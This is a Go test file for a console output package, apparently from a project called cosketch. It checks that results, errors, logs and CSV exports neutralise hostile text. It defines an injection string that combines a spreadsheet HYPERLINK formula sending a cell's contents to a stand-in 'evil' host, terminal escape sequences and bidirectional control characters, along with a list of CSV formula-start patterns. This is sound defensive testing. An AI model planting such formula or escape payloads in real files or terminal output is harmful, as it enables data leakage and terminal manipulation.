package console

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode"

	"github.com/cosketch/cosketch/node/config"
	"github.com/cosketch/cosketch/node/local"
	"github.com/cosketch/cosketch/protocol/analysis"
)

// attack is text that a terminal would act on, that reads backwards, and that a spreadsheet would
// evaluate.
const attack = "=HYPERLINK(\"http://evil/?\"&A1)\x1b]0;PWNED\x07\u009b2J\u202e\u2066;=1+1\x00"

// hostile puts the attack before every text of a document, except those that Decode requires.
func hostile(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() && v.String() != "" { // an empty Undefined means that there is an answer
			v.SetString(attack + v.String())
		}
	case reflect.Pointer:
		if !v.IsNil() {
			hostile(v.Elem())
		}
	case reflect.Slice, reflect.Array:
		for i := range v.Len() {
			hostile(v.Index(i))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() && f.Name != "Kind" && f.Name != "Study" && f.Name != "Format" {
				hostile(v.Field(i))
			}
		}
	}
}

// results are stored documents with all kinds of analyses.
func results(t *testing.T) (all []analysis.Result) {
	t.Helper()
	for _, pattern := range []string{"testdata/*.json", "../../protocol/analysis/testdata/*.json"} {
		paths, err := filepath.Glob(pattern)
		if err != nil || len(paths) < 3 {
			t.Fatalf("%d documents (%v)", len(paths), err)
		}
		for _, path := range paths {
			raw, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			var r analysis.Result
			if json.Unmarshal(raw, &r) == nil && r.Format == analysis.ResultFormat {
				all = append(all, r)
			}
		}
	}
	return all
}

// unshown finds a character that must not be shown to readers.
func unshown(text string) (at int) {
	return strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) })
}

// Text written by others, in any kind of answer, is not acted on, hidden or reordered by a
// terminal, or evaluated by a spreadsheet.
func TestTextOfOthersIsHarmless(t *testing.T) {
	sections := map[string]bool{}
	for _, r := range results(t) {
		hostile(reflect.ValueOf(&r).Elem())
		for _, a := range r.Analyses {
			for f, v := range reflect.ValueOf(a.Sections).Fields() {
				if !v.IsNil() {
					sections[f.Name] = true
				}
			}
		}
		raw, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		d := Document{Result: r, Raw: raw}
		var out, talk bytes.Buffer
		c := &Console{Out: &out, Err: &talk, Format: Text}
		for _, format := range []Format{Text, JSON, Lines} {
			c.Format = format
			if err := d.Show(c, ""); err != nil {
				t.Fatal(err)
			}
		}
		if at := unshown(out.String() + talk.String()); at >= 0 {
			t.Errorf("a terminal is given %q", (out.String() + talk.String())[max(0, at-40):][:60])
		}
		for _, format := range []Format{"", CSV} {
			c.Format, c.Files = Text, format
			for _, f := range d.render(c) {
				harmlessFile(t, f)
			}
		}
	}
	for _, want := range []string{"Classifier", "PCA", "Regression", "Hierarchy", "KMeans"} {
		if !sections[want] {
			t.Errorf("no document has a %s", want)
		}
	}
}

// harmlessFile checks that a text file has nothing that is acted on or evaluated.
func harmlessFile(t *testing.T, f file) {
	t.Helper()
	if at := unshown(f.name); at >= 0 || strings.ContainsAny(f.name, `/\=`) {
		t.Errorf("a file is called %q", f.name)
	}
	var text bytes.Buffer
	if err := f.write(&text); err != nil {
		return // of tables that are not beside the document
	}
	switch filepath.Ext(f.name) {
	case ".txt":
	case ".csv":
		for _, begins := range []string{"\n=", ",=", ",\"=", "\n\"=", ";="} {
			if strings.Contains(text.String(), begins) {
				t.Errorf("%s has a formula after %q", f.name, begins)
			}
		}
	default:
		return
	}
	if at := unshown(text.String()); at >= 0 {
		t.Errorf("%s has %q", f.name, text.String()[max(0, at-40):][:60])
	}
}

// lda is a result with every text that is printed of an lda.
func lda() analysis.Result {
	half := 0.5
	n := analysis.Number{Estimate: &half, StandardError: &half, Low: &half, High: &half}
	features := []analysis.Feature{{Party: "north", Column: "age"}, {Column: "ward", Value: "b"}}
	return analysis.Result{Sketches: make([]analysis.Sketch, 1), Analyses: []analysis.Analysis{{
		Kind: "lda", Features: features, Sections: analysis.Sections{LDA: &analysis.LDA{
			Column: "ward", Classes: []string{"a", "b"}, LeftOut: []string{"c"}, HiddenByNoise: features, Reference: features,
			Shares: []analysis.Number{n, {Undefined: "why"}}, Means: [][]analysis.Number{{n, n}, {n, n}}, Weights: [][]analysis.Number{{n, n}},
			Apart: []analysis.ClassApart{{I: 0, J: 1, Distance: n, Accuracy: n}}, Condition: n, Within: [][]float64{{1, 0}, {0, 1}}, Model: []analysis.Plane{{Weights: []float64{1, 1}}},
		}}}}}
}

func TestTextOfDiscriminantsIsHarmless(t *testing.T) {
	r := lda()
	hostile(reflect.ValueOf(&r).Elem())
	var out bytes.Buffer
	writeResult(&out, r) // without the writer that Print puts around it
	if at := unshown(out.String()); at >= 0 {
		t.Errorf("%q", out.String()[max(0, at-40):][:60])
	}
	if !strings.Contains(out.String(), "The score of =HYPERLINK") {
		t.Errorf("no score:\n%s", out.String())
	}
}

// Other output is harmless too: errors, messages, findings and logs.
func TestTalkOfOthersIsHarmless(t *testing.T) {
	var out, talk bytes.Buffer
	c := &Console{In: strings.NewReader("yes\n"), Out: &out, Err: &talk}
	for _, format := range []Format{Text, JSON, Lines} {
		c.Format = format
		c.report("party", errors.New(attack))
		if err := c.Print(attack, func(w io.Writer) { fmt.Fprintln(w, attack) }); err != nil {
			t.Fatal(err)
		}
		c.Say("%s", attack)
		if err := c.PrintFindings([]local.Finding{{Check: attack, Subject: attack, Verdict: local.Fail, Said: attack, Fix: attack}}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := c.Ask(t.Context(), attack, func(string) error { return nil }); err != nil {
		t.Fatal(err)
	}
	for _, format := range []config.LogFormat{config.LogText, config.LogJSON} {
		c.Logger(config.Log{Format: format, Level: slog.LevelInfo}).Info(attack, "a", attack)
	}
	if at := unshown(out.String() + talk.String()); at >= 0 {
		t.Errorf("%q", (out.String() + talk.String())[max(0, at-40):][:60])
	}
}
